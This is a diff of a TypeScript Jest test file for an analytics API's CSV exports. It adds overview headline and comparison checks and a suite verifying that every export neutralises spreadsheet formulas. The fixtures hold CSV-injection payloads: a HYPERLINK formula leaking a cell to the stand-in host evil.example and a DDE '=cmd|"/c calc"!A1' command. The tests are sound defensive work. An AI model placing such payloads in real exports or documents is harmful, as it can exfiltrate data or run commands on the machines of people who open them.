@@ -1,36 +1,9 @@
 import type { INestApplication } from '@nestjs/common';
 import request from 'supertest';
+import { formulaCells, parseCsv } from './support/csv';
 import { event, pageview, purchase } from './support/hits';
+import { documentedRoutes } from './support/routes';
 import { TestEnv } from './support/test-env';
-
-/** Parses RFC 4180 text (quoted fields, doubled quotes, CRLF records) to check what clients will read. */
-function parseCsv(text: string): string[][] {
-  const records: string[][] = [];
-  let record: string[] = [];
-  let field = '';
-  let quoted = false;
-  for (let i = 0; i < text.length; i++) {
-    const c = text[i];
-    if (quoted && c === '"' && text[i + 1] === '"') {
-      field += '"';
-      i++;
-    } else if (c === '"') {
-      quoted = !quoted;
-    } else if (!quoted && c === ',') {
-      record.push(field);
-      field = '';
-    } else if (!quoted && c === '\r' && text[i + 1] === '\n') {
-      record.push(field);
-      records.push(record);
-      record = [];
-      field = '';
-      i++;
-    } else {
-      field += c;
-    }
-  }
-  return records;
-}
 
 describe('CSV exports of every tabular report', () => {
   let env: TestEnv;
@@ -94,6 +67,40 @@ describe('CSV exports of every tabular report', () => {
     ]);
   });
 
+  it('writes every headline figure of the overview, and with compare the comparison and the change', async () => {
+    const url = `/api/v1/sites/${site}/analytics/overview?${range}&compare=previous_period`;
+    const json = await csv(url, 'application/json');
+    expect(json.status).toBe(200);
+    const data = json.body.data as Record<string, number> & {
+      comparison: Record<string, number | string> & { change: Record<string, number | null> };
+    };
+    const rows = expectCsv(await csv(url), /overview/);
+    const cell = (section: string, metric: string) =>
+      rows.find((row) => row[0] === section && row[1] === metric)?.[2];
+    const headline = [
+      'visitors',
+      'sessions',
+      'pageviews',
+      'bounce_rate',
+      'pages_per_session',
+      'avg_session_duration_seconds',
+    ];
+    for (const metric of headline) {
+      expect({ metric, csv: cell('headline', metric) }).toEqual({ metric, csv: String(data[metric]) });
+      expect({ metric, csv: cell('comparison', metric) }).toEqual({
+        metric,
+        csv: String(data.comparison[metric]),
+      });
+      const change = data.comparison.change[metric];
+      expect({ metric, csv: cell('change', metric) }).toEqual({
+        metric,
+        csv: change === null ? '' : String(change),
+      });
+    }
+    expect(cell('comparison', 'from')).toBe(data.comparison.from);
+    expect(cell('comparison', 'to')).toBe(data.comparison.to);
+  });
+
   it('writes the breakdown as one row per bucket and series', async () => {
     const rows = expectCsv(
       await csv(
@@ -113,9 +120,11 @@ describe('CSV exports of every tabular report', () => {
 
   it('writes the overview top lists, the e-commerce products and days, the scroll depth, the funnel and the sites', async () => {
     const overview = expectCsv(await csv(`/api/v1/sites/${site}/analytics/overview?${range}`), /overview/);
-    expect(overview[0]).toEqual(['list', 'value', 'sessions', 'share']);
-    expect(overview).toContainEqual(['top_channels', 'Email', '1', '50']);
-    expect(overview).toContainEqual(['entry_pages', '/pricing', '1', '50']);
+    expect(overview[0]).toEqual(['section', 'metric', 'metric_value', 'value', 'sessions', 'share']);
+    expect(overview).toContainEqual(['headline', 'sessions', '2', '', '', '']);
+    expect(overview).toContainEqual(['top_channels', '', '', 'Email', '1', '50']);
+    expect(overview).toContainEqual(['entry_pages', '', '', '/pricing', '1', '50']);
+    expect(overview.some((row) => row[0] === 'comparison')).toBe(false);
 
     const shop = expectCsv(await csv(`/api/v1/sites/${site}/ecommerce?${range}`), /ecommerce/);
     expect(shop).toEqual([
@@ -173,5 +182,98 @@ describe('CSV exports of every tabular report', () => {
     const doc = await request(app.getHttpServer()).get('/api/docs-json');
     const ok = doc.body.paths['/api/v1/sites/{id}/ecommerce'].get.responses['200'];
     expect(Object.keys(ok.content).sort()).toEqual(['application/json', 'text/csv']);
+  });
+});
+
+describe('CSV exports neutralise spreadsheet formulas in every export (OWASP CSV injection)', () => {
+  let env: TestEnv;
+  let app: INestApplication;
+  let key: string;
+  let site: number;
+  const range = 'from=2026-03-01&to=2026-03-02';
+  const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
+
+  beforeAll(async () => {
+    env = await TestEnv.create();
+    const user = await env.user();
+    site = await env.site({ name: '=cmd|"/c calc"!A1', members: [user] });
+    key = (await env.key(user)).key;
+    await env.registerEvent(site, '@evt', '=description');
+    await env.goal(site, '+goal', 'event', '@evt');
+    const attrs = {
+      source: HYPERLINK,
+      channel: '+chan',
+      country: '-land',
+      device: '@dev',
+      browser: '\tbrowser',
+    };
+    const imported = await env.importHits([
+      pageview(site, 'f1', '2026-03-01T10:00:00Z', '/=1', { ...attrs, scroll_depth: 50 }),
+      event(site, 'f1', '2026-03-01T10:01:00Z', '@evt', { path: '/=1' }),
+      purchase(site, 'f1', '2026-03-01T10:02:00Z', 'o1', '5.00', {
+        items: [{ sku: '=SKU', name: '\r@name', quantity: 1, price: '5.00' }],
+      }),
+    ]);
+    expect(imported.rejections).toEqual([]);
+    await env.aggregate();
+    app = await env.startApp();
+  });
+
+  afterAll(() => env.close());
+
+  const csv = (path: string) =>
+    request(app.getHttpServer()).get(path).set('Authorization', `Bearer ${key}`).set('Accept', 'text/csv');
+
+  it('writes no text cell that starts a formula, in any route that has a CSV form', async () => {
+    const steps = encodeURIComponent(
+      JSON.stringify([
+        { type: 'pageview', path: '/=1' },
+        { type: 'event', name: '@evt' },
+      ]),
+    );
+    const samples: Record<string, string> = {
+      '/api/v1/sites/{id}/analytics/breakdown-timeseries': `metric=sessions&dimension=browser&${range}`,
+      '/api/v1/sites/{id}/analytics/funnel': `steps=${steps}&${range}`,
+    };
+    let exports = 0;
+    for (const route of documentedRoutes(app)) {
+      const url = route.template.includes('{id}')
+        ? `${route.template.replace('{id}', String(site))}?${samples[route.template] ?? range}`
+        : route.template;
+      const res = await csv(url);
+      if (res.status === 406) continue;
+      expect({ url, status: res.status }).toEqual({ url, status: 200 });
+      exports++;
+      expect({ url, formulas: formulaCells(res.text) }).toEqual({ url, formulas: [] });
+    }
+    expect(exports).toBeGreaterThanOrEqual(8);
+  });
+
+  it('keeps the value readable behind the quote, quoted as RFC 4180 says', async () => {
+    const overview = await csv(`/api/v1/sites/${site}/analytics/overview?${range}`);
+    expect(overview.text).toContain(
+      `top_sources,,,"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",1,100`,
+    );
+    const rows = parseCsv(overview.text);
+    for (const [list, value] of [
+      ['top_channels', "'+chan"],
+      ['top_countries', "'-land"],
+      ['top_devices', "'@dev"],
+    ])
+      expect(rows).toContainEqual([list, '', '', value, '1', '100']);
+
+    const shop = parseCsv((await csv(`/api/v1/sites/${site}/ecommerce?${range}`)).text);
+    expect(shop[1]).toEqual(['product', '', "'=SKU", "'\r@name", '1', '5', '1']);
+    const events = parseCsv((await csv(`/api/v1/sites/${site}/events?${range}`)).text);
+    expect(events[1].slice(0, 2)).toEqual(["'@evt", "'=description"]);
+    const sites = parseCsv((await csv('/api/v1/sites')).text);
+    expect(sites[1][1]).toBe(`'=cmd|"/c calc"!A1`);
+  });
+
+  it('leaves JSON untouched: the neutralisation is a property of the CSV form only', async () => {
+    const res = await request(app.getHttpServer())
+      .get(`/api/v1/sites/${site}/analytics/overview?${range}`)
+      .set('Authorization', `Bearer ${key}`);
+    expect(res.body.data.top_sources[0].value).toBe(HYPERLINK);
   });
 });
